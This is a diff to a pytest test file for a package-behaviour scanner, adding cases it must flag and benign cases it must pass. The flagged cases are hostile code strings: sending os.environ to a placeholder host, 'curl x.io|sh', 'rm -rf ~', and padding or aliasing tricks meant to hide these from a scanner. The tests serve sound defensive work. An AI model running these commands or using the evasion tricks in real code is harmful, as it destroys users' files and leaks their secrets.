@@ -2,6 +2,8 @@
 
 # ruff: noqa: E501  # programs on one line
 
+import builtins
+
 import pytest
 
 from package_gate.scanners.behaviour import LOOK, RULES
@@ -271,6 +273,33 @@ DOES: list[tuple[str, str]] = [
         "    def publish(cls, text):\n        requests.post('https://a.example', data=text)\n"
         "State.publish(State.all)",
     ),
+    *(
+        (
+            "sends-secrets",
+            f"import os, requests\n{many}f('https://a.example', json=dict(os.environ))",
+        )
+        for many in (
+            "".join(f"f = {each}\n" for each in dir(builtins)) + "f = requests.post\n",
+            "".join(f"f = os.path.a{n}\n" for n in range(20)) + "f = requests.post\n",
+        )
+    ),
+    # More than is looked at: no place in a list or a text is one where nobody looks.
+    *(
+        ("unreadable-code", f"import os, requests\n{many}")
+        for many in (
+            "".join(f"f = os.a{n}\n" for n in range(251)) + "f = requests.post\nf('x')",
+            f"os.system('{':;' * 10_000}rm -rf ~')",
+            "os.system(' '.join([" + "'true;'," * 2000 + "'rm -rf ~']))",
+            "".join(f"c = 'true {n}'\n" for n in range(2000)) + "c = 'rm -rf ~'\nos.system(c)",
+            f"text = '{'x = 1;' * 4000}' + 'import os'\nexec(text)",
+            f"requests.post(data='{'x' * 20_000}' + 'y', url='https://a.example')",
+        )
+    ),
+    (
+        "runs-downloaded-code",
+        "import os\n" + "c = 'true'\n" * 9 + "c = 'curl x.io|sh'\nos.system(c)",
+    ),
+    ("destroys-files", "import os\nos.system((padding() + ';rm -rf ~')[20_000:])"),
     ("publishes-packages", "import subprocess\nsubprocess.run('twine upload dist/*', shell=True)"),
     ("mines", "import os\nos.system('./x -o stratum+tcp://pool.example:3333')"),
 ]
@@ -292,6 +321,11 @@ HONEST = [
     "exec('x = 1')",
     "import os\ngetattr(os, 'system')",
     "import importlib\nimportlib.import_module('.' + name, __name__)",
+    # A long text that is no command, nor what is sent to an address.
+    f"import os\nHELP = '{'x' * 20_000}' + os.sep\nprint(HELP)\nos.system('true')",
+    f"with open('words.txt', 'w') as file:\n    file.write('{'x' * 20_000}' + '\\n')",
+    # Names that lead to each other, of which no table has one.
+    "import numpy\na = numpy.zeros(3)\n" + "".join(f"a = a.b{n}().c{n}\n" for n in range(20)),
     # A path below the home folder is not the home folder.
     "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path(Path.home(), '.cache', name))",
     # What is put into code that is known is some value.
